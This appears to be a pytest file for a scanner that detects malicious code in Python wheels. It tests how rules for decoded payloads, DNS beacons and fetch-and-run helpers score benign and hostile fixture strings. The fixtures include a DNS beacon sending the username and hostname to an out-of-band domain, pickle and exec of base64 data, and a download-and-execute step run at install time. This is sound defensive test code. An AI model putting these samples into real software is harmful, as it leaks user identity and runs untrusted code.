"""Rules 71: what the largest popular files taught (``benchmarks/scan_giants.py``).

The other runs skip files over 300 MB, so torch's wheel was never scanned there; rules 70
held it (16.5) for three everyday things of a large library, each beside the shape that
stays held:

- ``pickle.loads(base64.b64decode(_FRAMES))`` where ``_FRAMES = ""`` is bound for type
  checkers: an empty literal is a placeholder, not a payload the file carries;
- ``socket.getaddrinfo(socket.gethostname())``: a look-up of the machine's own name asks
  its own resolver; a name built under a domain the code carries is a DNS beacon;
- a function of a large library's module that downloads a helper (FlameGraph's script),
  marks it executable and runs it when called: ``drop-run`` weighs as that module's other
  findings do (``MODULE_FACTOR``); at install or import time, or in a small package, it
  is held as before.

The sources are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from tests.support.archives import wheel
from tests.support.scan import judge, judge_setup_script

WHEEL = "demo-1.0-py3-none-any.whl"

#: Filler that makes a package large (more than 32 KiB of Python): its modules nothing
#: runs early weigh less.
LARGE = {
    f"demo/filler{n}.py": "".join(f"def f{i}(x):\n    return x + {i}\n\n" for i in range(400))
    for n in range(3)
}


def _module(code: str, *, large: bool = False) -> tuple[dict[str, float], bool]:
    """A wheel whose ``__init__`` imports nothing; ``code`` is a module of it."""
    files = {"demo/__init__.py": "VERSION = '1.0'\n", "demo/tool.py": code}
    return judge(wheel(files | (LARGE if large else {})), WHEEL)


# -- an empty literal decoded -----------------------------------------------------------------

PLACEHOLDER = (
    "import base64, pickle\n"
    "from typing import TYPE_CHECKING\n"
    "if TYPE_CHECKING:\n"
    "    _FRAMES: str = {value!r}\n"
    "def load():\n"
    "    return pickle.loads(base64.b64decode(_FRAMES))\n"
)


def test_an_empty_placeholder_decoded_into_a_loader_is_no_payload() -> None:
    rules, held = _module(PLACEHOLDER.format(value=""))
    assert "decode-exec" not in rules and not held


def test_a_literal_decoded_into_a_loader_is_still_a_payload() -> None:
    rules, held = _module(PLACEHOLDER.format(value="gASVCAAAAAAAAACMBHRlc3SULg=="))
    assert rules.get("decode-exec") == 10 and held


def test_an_empty_literal_executed_is_still_judged_as_decoded_data() -> None:
    # Not a payload the file carries, but `exec` of decoded runtime data stays a finding.
    rules, _ = _module("import base64\ndef run(x=''):\n    exec(base64.b64decode(''))\n")
    assert "decode-exec" in rules


# -- a DNS look-up of the machine's own name ---------------------------------------------------

OWN_NAME = (
    "import socket\n"
    "def is_this_host(host):\n"
    "    this_host = socket.gethostname()\n"
    "    infos = socket.getaddrinfo(this_host, None, proto=socket.IPPROTO_TCP)\n"
    "    return any(info[3] == host for info in infos)\n"
)
BEACON = (
    "import socket, getpass\n"
    "def beacon():\n"
    "    socket.gethostbyname(getpass.getuser() + '.' + socket.gethostname() + '.c3v.oast.fun')\n"
)


def test_looking_up_the_machines_own_name_sends_nothing() -> None:
    rules, held = _module(OWN_NAME)
    assert "phone-home" not in rules and not held


def test_a_name_built_under_the_codes_own_domain_is_a_beacon() -> None:
    rules, held = _module(BEACON)
    assert rules.get("phone-home") == 10 and held


# -- a helper downloaded and run by a large library's function --------------------------------

FETCH_AND_RUN = (
    "import os, subprocess, tempfile, urllib.request\n"
    "def flamegraph(lines, script=None):\n"
    "    script = script or os.path.expanduser('~/.cache/flamegraph.pl')\n"
    "    if not os.path.exists(script):\n"
    "        with tempfile.NamedTemporaryFile(suffix='.pl') as f:\n"
    "            urllib.request.urlretrieve(\n"
    "                'https://raw.githubusercontent.com/brendangregg/FlameGraph/master/flamegraph.pl',\n"
    "                f.name,\n"
    "            )\n"
    "            os.chmod(f.name, 0o755)\n"
    "            os.rename(f.name, script)\n"
    "    return subprocess.run([script], input=lines, capture_output=True).stdout\n"
)


def test_a_large_librarys_function_that_fetches_and_runs_a_helper_weighs_less() -> None:
    rules, held = _module(FETCH_AND_RUN, large=True)
    assert rules.get("drop-run") == pytest.approx(6.0) and not held


def test_the_same_in_a_small_package_is_held() -> None:
    rules, held = _module(FETCH_AND_RUN)
    assert rules.get("drop-run") == 10 and held


def test_the_same_at_install_time_is_held() -> None:
    rules, held = judge_setup_script(
        FETCH_AND_RUN + "flamegraph('x')\nfrom setuptools import setup\nsetup()\n"
    )
    assert rules.get("drop-run") == 10 and held
